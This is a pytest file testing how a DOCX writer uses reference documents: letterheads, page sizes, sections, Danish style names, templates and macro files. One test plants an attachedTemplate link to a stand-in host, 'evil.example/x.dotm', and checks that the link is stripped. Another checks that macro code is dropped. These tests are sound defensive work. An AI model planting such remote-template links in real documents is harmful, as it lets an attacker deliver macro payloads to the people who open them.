"""Reference documents as people bring them: every block set in each, nothing lost in silence, nothing made worse."""

import io
import subprocess
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from docx.document import Document
from docx.enum.section import WD_ORIENT, WD_SECTION
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from docx.shared import Mm
from lxml import etree
from PIL import Image
from tests.formats.docx.sheets import W, body, danish_reference, document, house_theme, parts, style_of
from tests.formats.docx.tagged_templates import changed
from tests.formats.docx.test_word_document import EVERY_BLOCK
from tests.support.ooxml import audit, check_package
from tests.support.soffice import needs_libreoffice

from workshopkit.diagnostics import Diagnostic
from workshopkit.formats.docx.writer import write_document
from workshopkit.formats.pdf.soffice import find_soffice
from workshopkit.model.document import Heading
from workshopkit.model.text import inlines

_TYPES = "[Content_Types].xml"
_PLAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TEMPLATE = _PLAIN.replace(b"document.main", b"template.main")
_MACRO = b"application/vnd.ms-word.document.macroEnabled.main+xml"


def plain(_document: Document) -> None:
    """python-docx's own template as it comes."""


def letterhead(document: Document) -> None:
    """A first page with a logo, and other pages with a line."""
    section = document.sections[0]
    section.different_first_page_header_footer = True
    picture = io.BytesIO()
    Image.new("RGB", (30, 10), "navy").save(picture, "PNG")
    section.first_page_header.paragraphs[0].add_run().add_picture(picture, Mm(30))
    section.header.paragraphs[0].text = "Navigators"
    section.first_page_footer.paragraphs[0].text = "CVR 12 34 56 78"


def a5(document: Document) -> None:
    """A small sheet."""
    section = document.sections[0]
    section.page_width, section.page_height = Mm(148), Mm(210)
    section.left_margin = section.right_margin = Mm(12)


def landscape(document: Document) -> None:
    """A sheet that lies."""
    section = document.sections[0]
    section.orientation, section.page_width, section.page_height = WD_ORIENT.LANDSCAPE, Mm(297), Mm(210)


def sections(document: Document) -> None:
    """Three sections, one of them in columns, with headers of even pages."""
    document.add_section(WD_SECTION.NEW_PAGE)
    last = document.add_section(WD_SECTION.ODD_PAGE)
    document.settings.odd_and_even_pages_header_footer = True
    last.even_page_header.is_linked_to_previous = False
    next(document.element.iter(f"{W}cols")).set(f"{W}num", "2")
    last.left_margin = Mm(40)


def no_headings(document: Document) -> None:
    """As most real templates: no styles for lists, captions and headings."""
    for name in ("Heading 1", "Heading 2", "List Bullet", "List Number", "Caption", "Title", "Table Grid"):
        style = document.styles[name]
        style._element.getparent().remove(style._element)


def danish_names(document: Document) -> None:
    """As programs other than Word write it: what Danish Word shows, as the name itself."""
    names = {
        "heading 1": "Overskrift 1",
        "List Bullet": "Opstilling - punkttegn",
        "Title": "Titel",
        "header": "Sidehoved",
    }
    for node in document.styles.element.iter(f"{W}name"):
        node.set(f"{W}val", names.get(node.get(f"{W}val"), node.get(f"{W}val")))


def bordered(document: Document) -> None:
    """A frame about every page."""
    border = f'<w:pgBorders {nsdecls("w")}><w:top w:val="single" w:sz="4" w:space="24" w:color="auto"/></w:pgBorders>'
    columns = next(document.element.iter(f"{W}cols"))
    columns.addprevious(parse_xml(border))


DRAWN = (plain, letterhead, a5, landscape, sections, no_headings, danish_names, bordered)


def saved(path: Path, draw: Callable[[Document], None], kind: bytes = _PLAIN, **more: bytes) -> Path:
    """The file, as a document, template or macro file."""
    document = docx.Document()
    draw(document)
    document.save(str(path))
    if kind != _PLAIN:
        changed(path, _TYPES, _PLAIN, kind, **more)
    return path


def made(reference: Path) -> tuple[bytes, list[Diagnostic]]:
    """A document of every block with the reference, and what is told of the reference."""
    written = write_document(document(*EVERY_BLOCK), house_theme(reference))
    return written.data, [each for each in written.diagnostics if each.code == "WK523"]


def faults(data: bytes, reference: Path) -> list[str]:
    """What validators find that they did not find in the reference."""
    brought = {fault.rpartition("/word/")[2] for fault in audit(reference.read_bytes(), "docx")}
    found = [fault for fault in audit(data, "docx") if fault.rpartition("/word/")[2] not in brought]
    return check_package(data, "docx") + found


@pytest.mark.parametrize("draw", DRAWN, ids=lambda draw: draw.__name__)
def test_every_block_can_be_set_in_it(tmp_path: Path, draw: Callable[[Document], None]) -> None:
    path = saved(tmp_path / "brand.docx", draw)
    assert faults(made(path)[0], path) == []


@pytest.mark.parametrize(
    ("name", "kind", "more"), [("a.dotx", _TEMPLATE, {}), ("a.docm", _MACRO, {"word/vbaProject.bin": b"x"})]
)
def test_templates_and_macro_files_serve_as_they_are(
    tmp_path: Path, name: str, kind: bytes, more: dict[str, bytes]
) -> None:
    data, told = made(saved(tmp_path / name, letterhead, kind, **more))
    assert check_package(data, "docx") == []
    assert [("macros" in note.message) for note in told] == [True] * len(more)
    assert "word/vbaProject.bin" not in parts(data)


def test_a_letterhead_keeps_its_first_page_with_the_logo(tmp_path: Path) -> None:
    data, told = made(saved(tmp_path / "a.docx", letterhead))
    section = docx.Document(io.BytesIO(data)).sections[0]
    assert section.different_first_page_header_footer
    assert section.first_page_header.part.rels
    assert [name for name in parts(data) if name.endswith(".png")]
    assert section.header.paragraphs[0].text == "Navigators"
    assert section.first_page_footer.paragraphs[0].text == "CVR 12 34 56 78"
    assert told == []


@pytest.mark.parametrize(("draw", "size"), [(a5, (148, 210)), (landscape, (210, 297))], ids=["a5", "turned"])
def test_its_sheet_is_used(tmp_path: Path, draw: Callable[[Document], None], size: tuple[int, int]) -> None:
    data, told = made(saved(tmp_path / "a.docx", draw))
    section = docx.Document(io.BytesIO(data)).sections[0]
    assert (round(section.page_width.mm), round(section.page_height.mm)) == size
    widths = [int(node.get(f"{W}w")) for node in body(data).iter(f"{W}tblW") if node.get(f"{W}type") == "dxa"]
    assert max(widths) <= (section.page_width - section.left_margin - section.right_margin) / 635 + 1
    assert told == []


def test_what_of_it_is_not_used_is_told(tmp_path: Path) -> None:
    data, told = made(saved(tmp_path / "brand.docx", sections))
    assert [note.severity.value for note in told] == ["note"] * 4
    assert [note.message.removeprefix("of the reference document «brand.docx» is not used: ") for note in told] == [
        "columns",
        "header and footer of even pages",
        "the page of all but the last of its 3 sections",
        "the start on an odd or even page",
    ]
    assert round(docx.Document(io.BytesIO(data)).sections[0].left_margin.mm) == 40
    assert [note.message.rpartition(": ")[2] for note in made(saved(tmp_path / "b.docx", bordered))[1]] == [
        "borders of pages"
    ]


def test_a_template_attached_from_elsewhere_stays_behind_and_is_told(tmp_path: Path) -> None:
    path = saved(tmp_path / "a.docx", plain)
    relation = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    changed(path, _TYPES, b"</Types>", b"</Types>", **{"word/_rels/settings.xml.rels": relation})
    data, told = made(path)
    assert ["its link to the template" in note.message for note in told] == [True]
    assert b"evil.example" not in b"".join(parts(data).values())


@pytest.mark.parametrize("draw", [danish_names, None], ids=["names", "ids"])
def test_danish_styles_are_found_by_what_they_are(tmp_path: Path, draw: Callable[[Document], None] | None) -> None:
    path = saved(tmp_path / "brand.docx", draw) if draw else danish_reference(tmp_path)
    data = write_document(document(Heading(inlines("x"), 1)), house_theme(path)).data
    named = {node.get(f"{W}styleId"): node.find(f"{W}name").get(f"{W}val") for node in styles(data).iter(f"{W}style")}
    [heading] = [p for p in body(data).iterchildren(f"{W}p") if style_of(p)]
    assert named[style_of(heading)] == ("Overskrift 1" if draw else "heading 1")
    assert [name for name in named.values() if name.lower() == "heading 1"] == ([] if draw else ["heading 1"])


def styles(data: bytes) -> etree._Element:
    """The styles part."""
    return etree.fromstring(parts(data)["word/styles.xml"])


def test_a_header_of_ours_keeps_clear_of_the_edge(tmp_path: Path) -> None:
    def close(document: Document) -> None:
        document.sections[0].header_distance = document.sections[0].footer_distance = 0

    section = docx.Document(io.BytesIO(made(saved(tmp_path / "a.docx", close))[0])).sections[0]
    assert min(section.header_distance, section.footer_distance) >= Mm(8)


def test_drawings_in_header_and_text_have_ids_of_their_own(tmp_path: Path) -> None:
    data, _ = made(saved(tmp_path / "a.docx", letterhead))
    ids = [
        node.get("id")
        for name, content in parts(data).items() if name.endswith(".xml")
        for node in etree.fromstring(content).iter("{*}docPr")
    ]  # fmt: skip
    assert len(ids) == len(set(ids)) > 1


@needs_libreoffice
def test_documents_and_templates_that_libreoffice_saved(tmp_path: Path) -> None:
    saved(tmp_path / "danish.docx", danish_names)
    saved(tmp_path / "letter.docx", letterhead)
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"

    def convert(kind: str, *files: Path) -> None:
        command = [
            str(find_soffice()),
            profile,
            "--headless",
            "--convert-to",
            kind,
            "--outdir",
            str(tmp_path / kind),
            *map(str, files),
        ]
        subprocess.run(command, check=True, capture_output=True, timeout=120)

    convert("ott", tmp_path / "danish.docx", tmp_path / "letter.docx")
    templates = Path(find_soffice()).resolve().parents[1] / "share/template/common"
    convert("docx", *sorted((tmp_path / "ott").glob("*.ott")), *sorted(templates.glob("officorr/*.ott"))[:2])
    converted = sorted((tmp_path / "docx").glob("*.docx"))
    assert len(converted) >= 2
    for path in converted:
        assert faults(made(path)[0], path) == [], path.name
